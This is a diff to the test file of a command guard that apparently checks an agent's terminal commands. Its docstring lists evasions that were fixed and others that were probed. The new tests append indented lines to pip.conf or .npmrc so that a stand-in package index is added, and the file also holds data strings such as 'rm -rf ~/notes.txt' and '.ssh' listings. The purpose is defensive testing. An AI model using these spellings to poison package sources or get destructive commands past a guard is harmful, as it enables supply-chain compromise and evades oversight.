@@ -15,9 +15,16 @@ Fixed (each allowed before):
    `run-parts d`.
 3. `Engine.check('bash $(cat list)')` (list holding `x.sh`): a script named only at run time, which a session asks for
    once it wrote files, was allowed without a session, where every file of the tree may be the one named: asks.
+4. An appended line that starts indented continues the file's last entry: `echo '    x = http://h/simple' >>
+   pip.conf` after a pip.conf's `extra-index-url = URL` made configparser's value `URL\\nx = http://h/simple`, which
+   pip splits at blanks: an index it installs from (live). `key = value` indented was a settings line; an append
+   whose first line is indented is more than settings now (shell.Analyzer._settings_text): asks (also `\\t`, after
+   blank lines, `echo ' fund=false' >> .npmrc`).
 Probed and held (ask or deny): fp49's listing after a maker behind a wrapper (`env`/`command`/`timeout`/`nice mkdir`,
 `xargs -0 mkdir`, a function named `grep` running mkdir, `hash -p /bin/mkdir cat`), a preprocessor (`rg --pre bash`,
-`sort --compress-program=./x.sh`), `cd ~` / `CDPATH=~ cd .ssh` before the listing, ZIPOPT on the line; bg49's spellings
+`sort --compress-program=./x.sh`), `cd ~` / `CDPATH=~ cd .ssh` before the listing,
+ZIPOPT on the line, links in the tree to the key and to ~ listed (`find . -name '*.log' | zip -m logs.zip -@`, `|
+xargs rm -rf`, `-print0` without `-0`, `find -L`, `-printf '%p/'`); bg49's spellings
 (`bash -- x.sh`, `bash ./x.sh`, `bash < x.sh`, `. ./x.sh`, `exec ./x.sh`, `env`/`nice`/`timeout`/`command bash x.sh`,
 `xargs bash < list`, a script sourcing another, a link to the script, a 70 KB script, `bash -s < x.sh`,
 `bash /dev/stdin < x.sh`, `bash <(cat x.sh)`); an npm append through CRLF (`x=1\\r\\nscript-shell=...`).
@@ -82,6 +89,50 @@ def test_pip_installs_from_the_index_pypi_url_names_live(tmp_path: Path) -> None
         f"{PIP_PAYLOADS[2]} && PIP_CONFIG_FILE=pip.conf {PIP} download --no-deps --retries 0 --timeout 1 -d d nosuch",
     )
     assert "Looking in indexes: http://127.0.0.1:9/simple" in printed
+
+
+CONTINUED = [
+    "echo '    x = http://127.0.0.1:9/simple' >> pip.conf",
+    "printf '\\tx = http://e.example/simple\\n' >> pip.conf",
+    "printf '\\n\\n  x = http://e.example/simple\\n' >> pip.conf",
+    "echo ' fund=false' >> .npmrc",
+]
+CONTINUED_NEAR_MISSES = ["echo 'timeout = 60' >> pip.conf", "printf '\\nfund=false\\n' >> .npmrc"]
+
+
+@pytest.fixture
+def configured(plain_harm: tuple[Engine, Path, Path]) -> tuple[Engine, Path, Path]:
+    """A project whose pip.conf names an extra index (a private one, as many have), its .npmrc a setting."""
+    engine, home, root = plain_harm
+    (root / "pip.conf").write_text("[global]\nextra-index-url = https://pypi.org/simple\n")
+    (root / ".npmrc").write_text("save-exact=true\n")
+    return engine, home, root
+
+
+@pytest.mark.parametrize("command", CONTINUED)
+def test_an_indented_append_continues_the_last_entry(configured: tuple[Engine, Path, Path], command: str) -> None:
+    engine, _, root = configured
+    assert engine.check(command).decision != "allow", command
+    view = engine.session_memory.view("s-continued", str(root))
+    assert engine._evaluator(engine._snapshot).verdict("terminal", {"command": command}, view).decision != "allow"
+
+
+@pytest.mark.parametrize("command", CONTINUED_NEAR_MISSES)
+def test_an_append_starting_its_own_line_stays_allowed(configured: tuple[Engine, Path, Path], command: str) -> None:
+    engine, _, _ = configured
+    verdict = engine.check(command)
+    assert verdict.decision == "allow", (command, [m.key for m in verdict.matches])
+
+
+def test_an_indented_append_adds_an_index_live(tmp_path: Path) -> None:
+    """The ground: configparser continues extra-index-url's value with the indented line, and pip splits the value
+    at blanks: the appended URL is an index pip looks in."""
+    setup = "printf '[global]\\nextra-index-url = https://pypi.org/simple\\n' > pip.conf && "
+    _, _, printed = run_confined(
+        tmp_path,
+        setup + CONTINUED[0] + f" && PIP_CONFIG_FILE=pip.conf {PIP} download --no-deps --retries 0 --timeout 1 -d d x",
+    )
+    assert "http://127.0.0.1:9/simple" in printed.split("Looking in indexes:", 1)[1].split("\n", 1)[0]
 
 
 SCRIPTED = {"x.sh": "rm -rf ~/notes.txt\n", "list": "x.sh\n", "x.py": "import os\nos.system('rm -rf ~/notes.txt')\n"}
